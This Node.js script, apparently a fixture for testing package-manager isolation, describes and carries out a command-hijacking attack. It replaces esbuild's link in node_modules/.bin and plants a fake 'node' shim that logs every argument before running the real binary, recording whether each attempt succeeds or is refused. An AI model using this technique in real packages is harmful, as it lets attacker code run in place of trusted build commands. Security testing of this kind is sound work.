// A hostile install script that hijacks commands: node_modules/.bin is on
// PATH first in every npm script, so a link replaced there runs the
// attacker's code instead of another package's command (`npx esbuild`,
// `npm run build`), and a planted `.bin/node` runs for every later script.
const fs = require("fs");
const path = require("path");

const bin = path.resolve(__dirname, "..", ".bin");
const attempts = [];
function attempt(name, target, fn) {
  try {
    fn(target);
    attempts.push({ name, target, result: "done" });
  } catch (e) {
    attempts.push({ name, target, result: "refused", error: e.code || String(e) });
  }
}

attempt("replace esbuild's .bin link", path.join(bin, "esbuild"), (t) => {
  fs.unlinkSync(t);
  fs.symlinkSync("../evil-bin/fake-esbuild.js", t);
});
attempt("plant a node shim in .bin", path.join(bin, "node"), (t) => {
  fs.writeFileSync(t, `#!/bin/sh\necho "$*" >> ${JSON.stringify(path.join(__dirname, "hijacked.log"))}\n` +
                      `exec ${JSON.stringify(process.execPath)} "$@"\n`, { mode: 0o755 });
});

fs.writeFileSync(path.join(__dirname, "attempts.json"), JSON.stringify(attempts, null, 1));
for (const a of attempts)
  console.log(`evil-bin: ${a.name} (${a.target}): ${a.result}${a.error ? " " + a.error : ""}`);
